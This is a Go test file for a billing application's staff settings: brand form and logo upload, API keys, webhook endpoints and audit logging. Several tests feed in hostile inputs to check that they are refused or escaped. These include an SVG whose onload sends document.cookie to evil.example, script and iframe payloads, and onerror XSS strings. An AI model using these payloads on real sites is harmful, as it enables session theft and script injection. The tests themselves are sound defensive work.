package handlers

import (
	"bytes"
	"fmt"
	"image"
	"image/color"
	"image/png"
	"io"
	"mime/multipart"
	"net/http"
	"net/url"
	"strings"
	"testing"

	"github.com/settle/settle/internal/ar"
	"github.com/settle/settle/internal/staff"
)

// Settings fixtures: API keys, webhook endpoints with deliveries, and
// multipart posts (the brand form with its logo).

// addAPIKey makes an API key of c and returns its id as a path value.
func (h *harness) addAPIKey(c *ar.Creditor, name string) string {
	h.t.Helper()
	_, prefix, hash := ar.NewAPIKey()
	k := &ar.APIKey{CreditorID: c.ID, Name: name, Prefix: prefix, KeyHash: hash}
	if err := h.st.CreateAPIKey(h.ctx, k); err != nil {
		h.t.Fatal(err)
	}
	return fmt.Sprint(k.ID)
}

// addEndpoint registers a webhook endpoint of c (on a closed port) and
// returns its id as a path value.
func (h *harness) addEndpoint(c *ar.Creditor) string {
	h.t.Helper()
	ep, _, err := h.srv.Hooks.AddEndpoint(h.ctx, c.ID, "http://127.0.0.1:9/hooks/"+c.Slug, nil)
	if err != nil {
		h.t.Fatal(err)
	}
	return fmt.Sprint(ep.ID)
}

// webhookWithDelivery registers an endpoint of c and an event for it,
// and returns the endpoint's and the delivery's ids as path values.
func (h *harness) webhookWithDelivery(c *ar.Creditor) (endpoint, delivery string) {
	h.t.Helper()
	endpoint = h.addEndpoint(c)
	ev, err := h.st.AddEvent(h.ctx, c.ID, nil, "payment.paid", map[string]any{"amount_minor": 1234})
	if err != nil {
		h.t.Fatal(err)
	}
	var id int64
	if err := h.db.Get(&id, `SELECT id FROM webhook_deliveries WHERE endpoint_id = $1 AND event_id = $2`, endpoint, ev.ID); err != nil {
		h.t.Fatal(err)
	}
	return endpoint, fmt.Sprint(id)
}

// addDelivery is a delivery of an event to a new endpoint of c.
func (h *harness) addDelivery(c *ar.Creditor) string {
	_, d := h.webhookWithDelivery(c)
	return d
}

// postMultipart posts a multipart form with an optional file, as a
// browser posts the brand form.
func (c *tclient) postMultipart(path string, form url.Values, fileField, fileName string, file []byte, hdr ...string) *tresp {
	c.h.t.Helper()
	var body bytes.Buffer
	mw := multipart.NewWriter(&body)
	for k, vs := range form {
		for _, v := range vs {
			mw.WriteField(k, v)
		}
	}
	if fileField != "" {
		fw, err := mw.CreateFormFile(fileField, fileName)
		if err != nil {
			c.h.t.Fatal(err)
		}
		fw.Write(file)
	}
	mw.Close()
	req, err := http.NewRequest(http.MethodPost, testBase+path, &body)
	if err != nil {
		c.h.t.Fatal(err)
	}
	req.Header.Set("Content-Type", mw.FormDataContentType())
	req.Header.Set("Sec-Fetch-Site", "same-origin")
	req.Header.Set("Origin", testBase)
	for k, v := range c.headers {
		req.Header.Set(k, v)
	}
	for i := 0; i+1 < len(hdr); i += 2 {
		req.Header.Set(hdr[i], hdr[i+1])
	}
	res, err := c.c.Do(req)
	if err != nil {
		c.h.t.Fatal(err)
	}
	defer res.Body.Close()
	b, _ := io.ReadAll(res.Body)
	return &tresp{Response: res, body: string(b)}
}

// brandValues is a complete brand form for creditor A.
func brandValues() url.Values {
	return url.Values{"name": {"Stadtwerke Neu"}, "legal_name": {"Stadtwerke Neu GmbH"},
		"address": {"Werkstraße 1\n10115 Berlin"}, "support_phone": {"+49 30 999 000"},
		"support_email": {"service@stadtwerke.example"}, "support_hours": {"Mo–Fr 9–17 Uhr"},
		"legal_footer": {"Amtsgericht Berlin HRB 1"}, "primary_color": {"#0A3D62"}, "accent_color": {"#b33939"},
		"default_language": {"en"}}
}

func testPNG(t testing.TB) []byte {
	t.Helper()
	img := image.NewRGBA(image.Rect(0, 0, 16, 4))
	img.Set(1, 1, color.RGBA{B: 255, A: 255})
	var b bytes.Buffer
	if err := png.Encode(&b, img); err != nil {
		t.Fatal(err)
	}
	return b.Bytes()
}

// auditCount is how many audit entries of action creditor c has.
func (h *harness) auditCount(c *ar.Creditor, action string) int {
	return h.queryInt(`SELECT count(*) FROM audit_log WHERE creditor_id = $1 AND action = $2`, c.ID, action)
}

// Only admins see the settings in the navigation.
func TestStaffSettingsNav(t *testing.T) {
	t.Parallel()
	h := newHarness(t)
	for _, role := range staff.Roles {
		c := h.staffClient(role, h.a)
		for lang, label := range map[string]string{"en": "Settings", "de": "Einstellungen"} {
			doc := c.get("/staff", "Accept-Language", lang).html(t)
			links := doc.testID("nav-settings")
			if (len(links) == 1) != (role == staff.RoleAdmin) {
				t.Errorf("%s (%s): %d settings links", role, lang, len(links))
			}
			if len(links) == 1 && textOf(links[0]) != label {
				t.Errorf("%s: the link says %q, want %q", lang, textOf(links[0]), label)
			}
		}
	}
	admin := h.staffClient(staff.RoleAdmin, h.a)
	h.addAPIKey(h.a, "one")
	h.addAPIKey(h.b, "other creditor's")
	h.addEndpoint(h.a)
	doc := admin.get("/staff/settings", "Accept-Language", "en").html(t)
	if text := doc.text(); !contains(text, nameA) || !contains(text, "1 key in use") || !contains(text, "1 endpoint") {
		t.Errorf("overview:\n%s", text)
	}
	if v, _ := attr(doc.testID("nav-settings")[0], "aria-current"); v != "page" {
		t.Errorf("the settings link is not marked current: %q", v)
	}
	if text := admin.get("/staff/settings", "Accept-Language", "de").html(t).text(); !contains(text, "1 Schlüssel in Gebrauch") ||
		!contains(text, "Erscheinungsbild") {
		t.Errorf("overview in German:\n%s", text)
	}
}

// The brand form saves every field and a new logo, records the changes
// (the logo by type and size), and debtors see the new brand and logo at
// once.
func TestStaffBrandUpdate(t *testing.T) {
	t.Parallel()
	h := newHarness(t)
	admin := h.staffClient(staff.RoleAdmin, h.a)
	page := admin.get("/staff/settings/brand", "Accept-Language", "en")
	if page.StatusCode != http.StatusOK {
		t.Fatalf("GET = %d", page.StatusCode)
	}
	doc := page.html(t)
	if v, _ := attr(doc.byID("name"), "value"); v != nameA {
		t.Errorf("the form shows the name %q", v)
	}
	if v, _ := attr(doc.byID("primary_color"), "value"); v != "#7a1f2b" {
		t.Errorf("the form shows the primary colour %q", v)
	}
	if len(doc.testID("current-logo")) != 1 {
		t.Error("the current logo is not shown")
	}

	logo := testPNG(t)
	res := admin.postMultipart("/staff/settings/brand", brandValues(), "logo", "logo.png", logo)
	if res.StatusCode != http.StatusSeeOther || res.Header.Get("Location") != "/staff/settings/brand?notice=saved" {
		t.Fatalf("POST = %d to %q:\n%s", res.StatusCode, res.Header.Get("Location"), res.body)
	}
	if text := admin.get(res.Header.Get("Location"), "Accept-Language", "de").html(t).testIDText("notice"); !contains(text, "Gespeichert") {
		t.Errorf("notice = %q", text)
	}
	c, err := h.st.Creditor(h.ctx, h.a.ID)
	if err != nil {
		t.Fatal(err)
	}
	if c.Name != "Stadtwerke Neu" || c.LegalName != "Stadtwerke Neu GmbH" || c.Address != "Werkstraße 1\n10115 Berlin" ||
		c.SupportPhone != "+49 30 999 000" || c.SupportEmail != "service@stadtwerke.example" || c.SupportHours != "Mo–Fr 9–17 Uhr" ||
		c.LegalFooter != "Amtsgericht Berlin HRB 1" || c.PrimaryColor != "#0a3d62" || c.AccentColor != "#b33939" ||
		c.DefaultLanguage != "en" || c.LogoVersion != 1 {
		t.Errorf("creditor after saving: %+v", c)
	}
	got, mediaType, err := h.st.CreditorLogo(h.ctx, h.a.ID)
	if err != nil || mediaType != "image/png" || !bytes.Equal(got, logo) {
		t.Errorf("stored logo: %s, %d bytes, %v", mediaType, len(got), err)
	}
	audit := h.auditText("brand.updated")
	for _, want := range []string{`"primary_color": "#0a3d62"`, `"primary_color": "#7a1f2b"`, `"display_name": "Stadtwerke Neu"`,
		`"logo_type": "image/png"`, fmt.Sprintf(`"logo_size": %d`, len(logo)), `"logo_type": "image/svg+xml"`} {
		if !strings.Contains(audit, want) {
			t.Errorf("audit lacks %s:\n%s", want, audit)
		}
	}
	if strings.Contains(audit, "PNG") || strings.Contains(audit, "iVBOR") {
		t.Errorf("the audit log holds the logo's bytes:\n%s", audit)
	}

	// The debtor's pages: the new name and colours, the logo under a new
	// URL that serves the new logo.
	debtor := h.entered(h.alice)
	acc := debtor.get("/account")
	imgs := acc.html(t).all(func(n *htmlNode) bool { v, _ := attr(n, "class"); return n.Data == "img" && v == "brand-logo" })
	if len(imgs) != 1 {
		t.Fatalf("%d brand logos on the account page", len(imgs))
	}
	src, _ := attr(imgs[0], "src")
	if src != "/brand/"+slugA+"/logo?v=1" {
		t.Errorf("logo URL = %q", src)
	}
	if !strings.Contains(acc.body, "--brand:#0a3d62") || !contains(acc.html(t).text(), "Stadtwerke Neu") {
		t.Error("the account page does not show the new brand")
	}
	served := h.client().get(src)
	if served.StatusCode != http.StatusOK || served.Header.Get("Content-Type") != "image/png" || served.body != string(logo) {
		t.Errorf("GET %s = %d %s", src, served.StatusCode, served.Header.Get("Content-Type"))
	}

	// The same again changes nothing and records nothing.
	res = admin.postMultipart("/staff/settings/brand", brandValues(), "", "", nil)
	if res.Header.Get("Location") != "/staff/settings/brand?notice=unchanged" {
		t.Errorf("unchanged save = %d to %q", res.StatusCode, res.Header.Get("Location"))
	}
	if n := h.auditCount(h.a, "brand.updated"); n != 1 {
		t.Errorf("%d brand audit entries, want 1", n)
	}

	// Removing the logo: debtors see the name instead.
	form := brandValues()
	form.Set("remove_logo", "1")
	if res := admin.postMultipart("/staff/settings/brand", form, "", "", nil); res.StatusCode != http.StatusSeeOther {
		t.Fatalf("remove logo = %d", res.StatusCode)
	}
	if strings.Contains(debtor.get("/account").body, "/brand/"+slugA+"/logo") {
		t.Error("the account page still shows a logo")
	}
	if res := h.client().get("/brand/" + slugA + "/logo"); res.StatusCode != http.StatusNotFound {
		t.Errorf("logo after removal = %d", res.StatusCode)
	}
	// Creditor B is untouched.
	if b, _ := h.st.Creditor(h.ctx, h.b.ID); b.Name != nameB || b.PrimaryColor != "#123456" {
		t.Errorf("creditor B changed: %+v", b)
	}
}

// Invalid input comes back (422) with every value kept and a translated
// error at each wrong field; nothing is saved.
func TestStaffBrandInvalid(t *testing.T) {
	t.Parallel()
	h := newHarness(t)
	admin := h.staffClient(staff.RoleAdmin, h.a)
	form := brandValues()
	form.Set("name", "")
	form.Set("primary_color", "blue")
	form.Set("support_email", "not an email")
	form.Set("support_phone", "ring ring")
	form.Set("default_language", "fr")
	for lang, want := range map[string][]string{
		"en": {"Please check the marked fields", "Enter the name your customers know you by", "Enter a colour as # and six hex digits",
			"Enter an email address", "Enter a phone number", "Choose German or English"},
		"de": {"Bitte prüfen Sie die markierten Felder", "Geben Sie den Namen ein", "Geben Sie eine Farbe als #",
			"Geben Sie eine E-Mail-Adresse", "Geben Sie eine Telefonnummer", "Wählen Sie Deutsch oder Englisch"},
	} {
		res := admin.postMultipart("/staff/settings/brand", form, "", "", nil, "Accept-Language", lang)
		if res.StatusCode != http.StatusUnprocessableEntity {
			t.Fatalf("%s: POST = %d", lang, res.StatusCode)
		}
		doc := res.html(t)
		text := doc.text()
		for _, w := range want {
			if !contains(text, w) {
				t.Errorf("%s: no %q in\n%s", lang, w, text)
			}
		}
		for field, v := range map[string]string{"primary_color": "blue", "support_email": "not an email",
			"support_phone": "ring ring", "legal_name": "Stadtwerke Neu GmbH", "accent_color": "#b33939"} {
			if got, _ := attr(doc.byID(field), "value"); got != v {
				t.Errorf("%s: %s kept as %q, want %q", lang, field, got, v)
			}
			if field == "primary_color" {
				if inv, _ := attr(doc.byID(field), "aria-invalid"); inv != "true" {
					t.Errorf("%s is not marked invalid", field)
				}
			}
		}
		if ta := doc.byID("address"); ta == nil || textOf(ta) != "Werkstraße 1 10115 Berlin" {
			t.Errorf("%s: the address is not kept", lang)
		}
	}
	// A wrong logo keeps the other values too.
	res := admin.postMultipart("/staff/settings/brand", brandValues(), "logo", "logo.png", []byte("I am not a picture"), "Accept-Language", "en")
	if res.StatusCode != http.StatusUnprocessableEntity || !contains(res.html(t).testIDText("brand-form"), "The logo must be a PNG, JPEG or SVG file") {
		t.Errorf("a text file as logo = %d", res.StatusCode)
	}
	if v, _ := attr(res.html(t).byID("name"), "value"); v != "Stadtwerke Neu" {
		t.Errorf("name not kept: %q", v)
	}
	big := append(testPNG(t), make([]byte, 600<<10)...)
	res = admin.postMultipart("/staff/settings/brand", brandValues(), "logo", "big.png", big, "Accept-Language", "de")
	if res.StatusCode != http.StatusUnprocessableEntity || !contains(res.html(t).text(), "höchstens 512 KB") {
		t.Errorf("a 600 KB logo = %d", res.StatusCode)
	}
	if c, _ := h.st.Creditor(h.ctx, h.a.ID); c.Name != nameA || c.PrimaryColor != "#7a1f2b" {
		t.Errorf("invalid input changed the creditor: %+v", c)
	}
	if n := h.auditCount(h.a, "brand.updated"); n != 0 {
		t.Errorf("invalid input audited %d times", n)
	}
}

// A malicious SVG is refused by its content, whatever it is called; the
// stored logo stays.
func TestStaffBrandMaliciousSVG(t *testing.T) {
	t.Parallel()
	h := newHarness(t)
	admin := h.staffClient(staff.RoleAdmin, h.a)
	before, _, _ := h.st.CreditorLogo(h.ctx, h.a.ID)
	for name, svg := range map[string]string{
		"logo.svg": `<svg xmlns="http://www.w3.org/2000/svg" onload="fetch('https://evil.example/?c='+document.cookie)"><rect width="5" height="5"/></svg>`,
		"logo.png": `<svg xmlns="http://www.w3.org/2000/svg"><script>alert(document.domain)</script></svg>`,
		"x.svg":    `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"><image xlink:href="https://evil.example/pixel.gif"/></svg>`,
		"y.svg":    `<svg xmlns="http://www.w3.org/2000/svg"><foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" src="javascript:alert(1)"></iframe></foreignObject></svg>`,
	} {
		for lang, want := range map[string]string{"en": "This SVG contains scripts", "de": "Diese SVG-Datei enthält Skripte"} {
			res := admin.postMultipart("/staff/settings/brand", brandValues(), "logo", name, []byte(svg), "Accept-Language", lang)
			if res.StatusCode != http.StatusUnprocessableEntity {
				t.Fatalf("%s: POST = %d", name, res.StatusCode)
			}
			doc := res.html(t)
			if !contains(doc.text(), want) {
				t.Errorf("%s (%s): no %q", name, lang, want)
			}
			if inv, _ := attr(doc.byID("logo"), "aria-invalid"); inv != "true" {
				t.Errorf("%s: the logo field is not marked invalid", name)
			}
		}
	}
	after, mediaType, _ := h.st.CreditorLogo(h.ctx, h.a.ID)
	if !bytes.Equal(before, after) || mediaType != "image/svg+xml" {
		t.Error("a refused logo replaced the stored one")
	}
	// A clean SVG named .png is stored as SVG: the content decides.
	clean := `<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 4 1"><rect width="4" height="1" fill="#0a3d62"/></svg>`
	if res := admin.postMultipart("/staff/settings/brand", brandValues(), "logo", "logo.png", []byte(clean)); res.StatusCode != http.StatusSeeOther {
		t.Fatalf("a clean SVG = %d", res.StatusCode)
	}
	if _, mediaType, _ := h.st.CreditorLogo(h.ctx, h.a.ID); mediaType != "image/svg+xml" {
		t.Errorf("a clean SVG named .png is stored as %s", mediaType)
	}
}

// "Show preview" shows the form's colours without saving, and warns
// about poor contrast.
func TestStaffBrandPreview(t *testing.T) {
	t.Parallel()
	h := newHarness(t)
	admin := h.staffClient(staff.RoleAdmin, h.a)
	form := brandValues()
	form.Set("preview", "1")
	form.Set("primary_color", "#FFEE58") // pale yellow: white text fails, the page uses a darker shade
	res := admin.postMultipart("/staff/settings/brand", form, "", "", nil, "Accept-Language", "en")
	if res.StatusCode != http.StatusOK {
		t.Fatalf("preview = %d", res.StatusCode)
	}
	doc := res.html(t)
	if !strings.Contains(res.body, "--pv-brand:#ffee58") || !strings.Contains(res.body, "--pv-accent:#b33939") {
		t.Error("the preview's style lacks the form's colours")
	}
	if !contains(doc.testIDText("preview-notice"), "nothing has been saved") {
		t.Errorf("preview notice = %q", doc.testIDText("preview-notice"))
	}
	warnings := doc.testIDText("contrast-warnings")
	if !contains(warnings, "#ffee58 is pale on a white page") || !contains(warnings, "Primary colour") {
		t.Errorf("contrast warnings = %q", warnings)
	}
	if strings.Contains(warnings, "Accent colour") {
		t.Errorf("a readable accent colour got a warning: %q", warnings)
	}
	form.Set("primary_color", "#787878") // mid grey: neither white nor near-black text reaches 4.5:1
	de := admin.postMultipart("/staff/settings/brand", form, "", "", nil, "Accept-Language", "de").html(t).testIDText("contrast-warnings")
	if !contains(de, "Text auf #787878 ist schwer zu lesen") || !strings.Contains(de, ",") {
		t.Errorf("German contrast warnings = %q", de)
	}
	if c, _ := h.st.Creditor(h.ctx, h.a.ID); c.Name != nameA || c.PrimaryColor != "#7a1f2b" {
		t.Errorf("a preview saved: %+v", c)
	}
	if n := h.auditCount(h.a, "brand.updated"); n != 0 {
		t.Errorf("a preview was audited")
	}
	// The stored brand reads well: no warnings.
	if w := admin.get("/staff/settings/brand").html(t).testIDText("contrast-warnings"); w != "" {
		t.Errorf("warnings for the stored brand: %q", w)
	}
}

// Names are text, never markup: on the settings pages and the debtor's.
func TestStaffBrandEscapes(t *testing.T) {
	t.Parallel()
	h := newHarness(t)
	admin := h.staffClient(staff.RoleAdmin, h.a)
	evil := `Evil <script>alert(1)</script> & "Co"`
	form := brandValues()
	form.Set("name", evil)
	form.Set("support_hours", `<img src=x onerror=alert(1)>`)
	if res := admin.postMultipart("/staff/settings/brand", form, "", "", nil); res.StatusCode != http.StatusSeeOther {
		t.Fatalf("POST = %d", res.StatusCode)
	}
	for path, c := range map[string]*tclient{"/staff/settings": admin, "/staff/settings/brand": admin, "/account": h.entered(h.alice)} {
		res := c.get(path)
		if strings.Contains(res.body, "<script>alert(1)") || strings.Contains(res.body, "<img src=x") {
			t.Errorf("%s renders the name as markup", path)
		}
		if !contains(res.html(t).text(), `Evil <script>alert(1)</script> & "Co"`) && path != "/account" {
			t.Errorf("%s does not show the name as text", path)
		}
	}
}

// API keys: made with a name, shown once, working at once against the
// API, never logged or audited; revoked keys stop working; another
// creditor's key is not found.
func TestStaffAPIKeys(t *testing.T) {
	t.Parallel()
	h := newHarness(t)
	admin := h.staffClient(staff.RoleAdmin, h.a)
	if text := admin.get("/staff/settings/api-keys", "Accept-Language", "en").html(t).testIDText("no-keys"); text != "No keys yet." {
		t.Errorf("empty list says %q", text)
	}
	for lang, want := range map[string]string{"en": "Give the key a name", "de": "Geben Sie dem Schlüssel einen Namen"} {
		res := admin.post("/staff/settings/api-keys", url.Values{"name": {"  "}}, "Accept-Language", lang)
		if res.StatusCode != http.StatusUnprocessableEntity || !contains(res.html(t).text(), want) {
			t.Errorf("%s: a key without a name = %d", lang, res.StatusCode)
		}
	}
	res := admin.post("/staff/settings/api-keys", url.Values{"name": {"Billing <b>system</b>"}}, "Accept-Language", "en")
	if res.StatusCode != http.StatusOK {
		t.Fatalf("create = %d:\n%s", res.StatusCode, res.body)
	}
	doc := res.html(t)
	key := doc.testIDText("secret")
	if !ar.PlausibleAPIKey(key) {
		t.Fatalf("shown key %q", key)
	}
	if !contains(doc.text(), "This is shown only now") || !contains(doc.text(), `The key "Billing <b>system</b>"`) ||
		strings.Contains(res.body, "<b>system</b>") {
		t.Errorf("the key page:\n%s", doc.text())
	}
	if cc := res.Header.Get("Cache-Control"); cc != "no-store" {
		t.Errorf("Cache-Control = %q", cc)
	}

	// The key works at once.
	api := h.client()
	if got := api.get("/api/v1/events", "Authorization", "Bearer "+key); got.StatusCode != http.StatusOK {
		t.Fatalf("GET /api/v1/events with the new key = %d: %s", got.StatusCode, got.body)
	}
	list := admin.get("/staff/settings/api-keys", "Accept-Language", "en")
	if strings.Contains(list.body, key) {
		t.Error("the list shows the key")
	}
	rows := list.html(t).testID("apikeys")
	if len(rows) != 1 || !contains(textOf(rows[0]), "Billing <b>system</b>") || !contains(textOf(rows[0]), key[:10]+"…") ||
		contains(textOf(rows[0]), "never") {
		t.Errorf("the list: %s", textOf(rows[0]))
	}

	var id int64
	if err := h.db.Get(&id, `SELECT id FROM api_keys WHERE creditor_id = $1 AND name = 'Billing <b>system</b>'`, h.a.ID); err != nil {
		t.Fatal(err)
	}
	// Creditor B's admin cannot revoke it.
	other := h.staffClient(staff.RoleAdmin, h.b)
	if res := other.post(fmt.Sprintf("/staff/settings/api-keys/%d/revoke", id), nil); res.StatusCode != http.StatusNotFound {
		t.Errorf("creditor B revoking A's key = %d", res.StatusCode)
	}
	if got := api.get("/api/v1/events", "Authorization", "Bearer "+key); got.StatusCode != http.StatusOK {
		t.Fatalf("after B's try the key = %d", got.StatusCode)
	}
	res = admin.post(fmt.Sprintf("/staff/settings/api-keys/%d/revoke", id), nil)
	if res.StatusCode != http.StatusSeeOther || res.Header.Get("Location") != "/staff/settings/api-keys?notice=revoked" {
		t.Fatalf("revoke = %d to %q", res.StatusCode, res.Header.Get("Location"))
	}
	if got := api.get("/api/v1/events", "Authorization", "Bearer "+key); got.StatusCode != http.StatusUnauthorized {
		t.Errorf("a revoked key = %d, want 401", got.StatusCode)
	}
	if text := admin.get(res.Header.Get("Location"), "Accept-Language", "de").html(t).text(); !contains(text, "Der Schlüssel ist gesperrt") ||
		!contains(text, "gesperrt am") {
		t.Errorf("after revoking:\n%s", text)
	}
	// Revoking again is harmless and records nothing more.
	admin.post(fmt.Sprintf("/staff/settings/api-keys/%d/revoke", id), nil)

	audit := h.auditText("apikey.created") + h.auditText("apikey.revoked")
	if h.auditCount(h.a, "apikey.created") != 1 || h.auditCount(h.a, "apikey.revoked") != 1 || !strings.Contains(audit, key[:10]) {
		t.Errorf("audit:\n%s", audit)
	}
	var all string
	h.db.Get(&all, `SELECT coalesce(string_agg(subject || coalesce(before::text, '') || coalesce(after::text, ''), ' '), '') FROM audit_log`)
	for where, text := range map[string]string{"log": h.logs.String(), "audit": all} {
		if strings.Contains(text, key) || strings.Contains(text, key[10:]) {
			t.Errorf("the key is in the %s", where)
		}
	}
}

// Webhook endpoints: added with a secret shown once, listed, rotated,
// disabled and enabled, deliveries shown with attempts and replayed,
// removed; errors translated and values kept; secrets never logged or
// audited; another creditor's endpoint not found.
func TestStaffWebhooks(t *testing.T) {
	t.Parallel()
	h := newHarness(t)
	admin := h.staffClient(staff.RoleAdmin, h.a)
	if text := admin.get("/staff/settings/webhooks", "Accept-Language", "en").html(t).testIDText("no-hooks"); text != "No endpoints yet." {
		t.Errorf("empty list says %q", text)
	}
	bad := url.Values{"url": {"ftp://example.com/x"}, "event_types": {"payment.paid", "dispute.opened"}}
	for lang, want := range map[string]string{"en": "URL", "de": "URL"} {
		res := admin.post("/staff/settings/webhooks", bad, "Accept-Language", lang)
		if res.StatusCode != http.StatusUnprocessableEntity {
			t.Fatalf("%s: a bad URL = %d", lang, res.StatusCode)
		}
		doc := res.html(t)
		errText := textOf(doc.byID("url-error"))
		if errText == "" || errText == "error.webhook.url" || !strings.Contains(errText, want) {
			t.Errorf("%s: URL error %q", lang, errText)
		}
		if v, _ := attr(doc.byID("url"), "value"); v != "ftp://example.com/x" {
			t.Errorf("the URL is not kept: %q", v)
		}
		ticked := doc.all(func(n *htmlNode) bool {
			_, on := attr(n, "checked")
			name, _ := attr(n, "name")
			return n.Data == "input" && name == "event_types" && on
		})
		if len(ticked) != 2 {
			t.Errorf("%s: %d event types kept ticked, want 2", lang, len(ticked))
		}
	}
	if en, de := h.en().T("error.webhook.url"), h.de().T("error.webhook.url"); en == de {
		t.Errorf("the URL error is not translated: %q", en)
	}
	if res := admin.post("/staff/settings/webhooks", url.Values{"url": {"https://example.com"}, "event_types": {"no.such"}}); res.StatusCode != http.StatusUnprocessableEntity ||
		textOf(res.html(t).byID("event_types-error")) == "" {
		t.Errorf("an unknown event type = %d", res.StatusCode)
	}

	evilURL := `http://127.0.0.1:9/hook?x=<script>alert(1)</script>`
	res := admin.post("/staff/settings/webhooks", url.Values{"url": {evilURL}, "event_types": {"payment.paid"}}, "Accept-Language", "en")
	if res.StatusCode != http.StatusOK {
		t.Fatalf("add = %d:\n%s", res.StatusCode, res.body)
	}
	secret := res.html(t).testIDText("secret")
	if !strings.HasPrefix(secret, "whsec_") || !contains(res.html(t).text(), "This is shown only now") {
		t.Fatalf("secret page: %q", res.html(t).text())
	}
	if strings.Contains(res.body, "<script>alert(1)") {
		t.Error("the URL is rendered as markup")
	}
	var id int64
	if err := h.db.Get(&id, `SELECT id FROM webhook_endpoints WHERE creditor_id = $1`, h.a.ID); err != nil {
		t.Fatal(err)
	}
	path := fmt.Sprintf("/staff/settings/webhooks/%d", id)
	list := admin.get("/staff/settings/webhooks", "Accept-Language", "en")
	if strings.Contains(list.body, secret) || strings.Contains(list.body, "<script>alert(1)") {
		t.Error("the list shows the secret or renders the URL as markup")
	}
	if text := textOf(list.html(t).testID("webhooks")[0]); !contains(text, "payment.paid") || !contains(text, "active") ||
		!contains(text, "No deliveries yet") {
		t.Errorf("list: %s", text)
	}

	// Another creditor's admin: not found, everywhere.
	other := h.staffClient(staff.RoleAdmin, h.b)
	for _, p := range []string{path, path + "/rotate", path + "/disable", path + "/enable", path + "/remove"} {
		var res *tresp
		if p == path {
			res = other.get(p)
		} else {
			res = other.post(p, nil)
		}
		if res.StatusCode != http.StatusNotFound || strings.Contains(res.body, "127.0.0.1") {
			t.Errorf("creditor B: %s = %d", p, res.StatusCode)
		}
	}

	// Rotate: a new secret, once.
	res = admin.post(path+"/rotate", nil, "Accept-Language", "de")
	rotated := res.html(t).testIDText("secret")
	if res.StatusCode != http.StatusOK || !strings.HasPrefix(rotated, "whsec_") || rotated == secret ||
		!contains(res.html(t).text(), "24 Stunden") {
		t.Fatalf("rotate = %d, %q", res.StatusCode, rotated)
	}
	var stored string
	h.db.Get(&stored, `SELECT secret FROM webhook_endpoints WHERE id = $1`, id)
	if stored != rotated {
		t.Error("the shown secret is not the stored one")
	}
	if !contains(admin.get(path, "Accept-Language", "en").html(t).text(), "still signs until") {
		t.Error("the endpoint page does not say until when the old secret signs")
	}

	// Deliveries with their attempts; replay.
	ev, err := h.st.AddEvent(h.ctx, h.a.ID, nil, "payment.paid", map[string]any{"amount_minor": 500})
	if err != nil {
		t.Fatal(err)
	}
	var delivery int64
	h.db.Get(&delivery, `SELECT id FROM webhook_deliveries WHERE endpoint_id = $1`, id)
	h.db.MustExec(`INSERT INTO webhook_attempts (delivery_id, status, error, duration_ms) VALUES ($1, 500, '<b>boom</b>', 12), ($1, NULL, 'connection refused', 3)`, delivery)
	h.db.MustExec(`UPDATE webhook_deliveries SET state = 'dead', attempts = 2 WHERE id = $1`, delivery)
	page := admin.get(path, "Accept-Language", "en")
	if page.StatusCode != http.StatusOK {
		t.Fatalf("GET %s = %d", path, page.StatusCode)
	}
	rowText := textOf(page.html(t).testID("deliveries")[0])
	for _, want := range []string{"payment.paid", ev.PublicID, "failed", "500", "<b>boom</b>", "no answer", "connection refused", "12 ms"} {
		if !contains(rowText, want) {
			t.Errorf("deliveries lack %q: %s", want, rowText)
		}
	}
	if strings.Contains(page.body, "<b>boom</b>") {
		t.Error("an attempt's error is rendered as markup")
	}
	if text := textOf(admin.get("/staff/settings/webhooks", "Accept-Language", "en").html(t).testID("webhooks")[0]); !contains(text, "0 delivered, 0 pending, 1 failed") {
		t.Errorf("list stats: %s", text)
	}
	replay := fmt.Sprintf("/staff/settings/webhooks/deliveries/%d/replay", delivery)
	if res := other.post(replay, nil); res.StatusCode != http.StatusNotFound {
		t.Errorf("creditor B replaying A's delivery = %d", res.StatusCode)
	}
	res = admin.post(replay, nil)
	if res.StatusCode != http.StatusSeeOther || res.Header.Get("Location") != path+"?notice=replayed" {
		t.Fatalf("replay = %d to %q", res.StatusCode, res.Header.Get("Location"))
	}
	if h.queryInt(`SELECT round FROM webhook_deliveries WHERE id = $1 AND state = 'pending'`, delivery) != 2 ||
		h.queryInt(`SELECT count(*) FROM jobs WHERE kind = 'webhook.deliver' AND unique_key = $1`, fmt.Sprintf("webhook.deliver:%d:2", delivery)) != 1 {
		t.Error("the replay did not make a new round with its job")
	}
	if text := admin.get(path+"?notice=replayed", "Accept-Language", "de").html(t).text(); !contains(text, "erneut gesendet (2. Runde)") ||
		!contains(text, "Die Zustellung wird erneut gesendet") {
		t.Errorf("after replay:\n%s", text)
	}

	// Disable, enable.
	if res := admin.post(path+"/disable", nil); res.Header.Get("Location") != path+"?notice=disabled" {
		t.Fatalf("disable = %d to %q", res.StatusCode, res.Header.Get("Location"))
	}
	if text := admin.get(path, "Accept-Language", "de").html(t).testIDText("endpoint-state"); !contains(text, "deaktiviert") ||
		!contains(text, "im Backoffice deaktiviert") {
		t.Errorf("state after disabling: %q", text)
	}
	if _, err := h.st.AddEvent(h.ctx, h.a.ID, nil, "payment.paid", nil); err != nil {
		t.Fatal(err)
	}
	if n := h.queryInt(`SELECT count(*) FROM webhook_deliveries WHERE endpoint_id = $1`, id); n != 1 {
		t.Errorf("a disabled endpoint got a delivery (%d)", n)
	}
	if res := admin.post(path+"/enable", nil); res.Header.Get("Location") != path+"?notice=enabled" {
		t.Fatalf("enable = %d", res.StatusCode)
	}
	if text := admin.get(path, "Accept-Language", "en").html(t).testIDText("endpoint-state"); text != "active" {
		t.Errorf("state after enabling: %q", text)
	}

	// Remove.
	if res := admin.post(path+"/remove", nil); res.Header.Get("Location") != "/staff/settings/webhooks?notice=removed" {
		t.Fatalf("remove = %d", res.StatusCode)
	}
	if res := admin.get(path); res.StatusCode != http.StatusNotFound {
		t.Errorf("a removed endpoint = %d", res.StatusCode)
	}

	// The audit log has every step and no secret; neither has the log.
	for _, a := range []string{"webhook.added", "webhook.secret_rotated", "webhook.replayed", "webhook.disabled", "webhook.enabled", "webhook.removed"} {
		if n := h.auditCount(h.a, a); n != 1 {
			t.Errorf("%d audit entries %s, want 1", n, a)
		}
	}
	var all string
	h.db.Get(&all, `SELECT string_agg(subject || coalesce(before::text, '') || coalesce(after::text, ''), ' ') FROM audit_log`)
	for where, text := range map[string]string{"log": h.logs.String(), "audit": all} {
		if strings.Contains(text, secret) || strings.Contains(text, rotated) || strings.Contains(text, "whsec_") {
